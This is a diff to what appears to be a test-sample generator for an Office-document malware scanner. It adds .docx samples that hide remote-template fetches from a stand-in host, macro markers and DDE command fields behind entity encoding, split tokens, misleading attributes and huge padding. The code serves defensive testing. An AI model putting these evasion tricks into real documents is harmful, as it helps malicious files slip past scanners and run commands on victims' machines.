@@ -283,6 +283,42 @@ def fetching(rng: random.Random) -> Iterator[tuple[str, bytes]]:
             yield "a.docx", document(("word/_rels/settings.xml.rels", link.encode() + MARK))
 
 
+@makes("Office that fetches or runs, written so that a simple look misses it")
+def disguised(rng: random.Random) -> Iterator[tuple[str, bytes]]:
+    head, rels = b'<?xml version="1.0"?><Relationships>', "word/_rels/settings.xml.rels"
+    kind = b" Type='x/attachedTemplate'"
+    for entry in (
+        kind + b" TargetMode='&#69;xternal' Target='http://192.0.2.1/'",
+        b" xType='x/hyperlink'" + kind + b" TargetMode='External' Target='http://192.0.2.1/'",
+        kind + b" TargetMode='External' Target=\"http://192.0.2.1/?Type='x/hyperlink'\"",
+        kind + b" TargetMode = 'external' Target='http://192.0.2.1/'",
+        b" Type='x/vba&#80;roject' Target='a.xml'",
+    ):
+        whole = head + b"<Relationship" + entry + b"/></Relationships>"
+        yield "a.docx", document((rels, whole + b"<!--" + MARK + b"-->"))
+        far = head + b" " * 9_000_000 + b"<Relationship" + entry + b"/></Relationships>"
+        yield "a.docx", document((rels, far), ("word/noise.xml", noise_of(rng)))
+    other = b"<Types><Override PartName='/word/x.dat' ContentType='application/a.document.main+xml'/></Types>"
+    yield "a.docx", document(("word/x.dat", MARK), types=other)
+    yield (
+        "a.docx",
+        document(types=b"<Types><Default Extension='x' ContentType='a.macro&#69;nabled'/></Types>"),
+    )
+    yield "a.docx", document(("[content_types].XML", TYPES))
+    for words in (
+        b"<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText>",
+        b"<w:instrText>&#68;DEAUTO c:\\x</w:instrText>",
+        b"<w:fldSimple w:instr='&#68;DE c:\\x'/>",
+        b"<w:p>" + b" " * 9_000_000 + b"<w:instrText>DDE c:\\x</w:instrText></w:p>",
+    ):
+        yield "a.docx", document(("word/noise.xml", noise_of(rng)), words=WORDS + words + MARK)
+
+
+def noise_of(rng: random.Random) -> bytes:
+    """So much that cannot be packed that the whole does not look like a bomb."""
+    return rng.randbytes(120_000).hex().encode()
+
+
 @makes("Office that gives commands (DDE)")
 def dde(rng: random.Random) -> Iterator[tuple[str, bytes]]:
     for word in (b"DDEAUTO", b"DDE"):
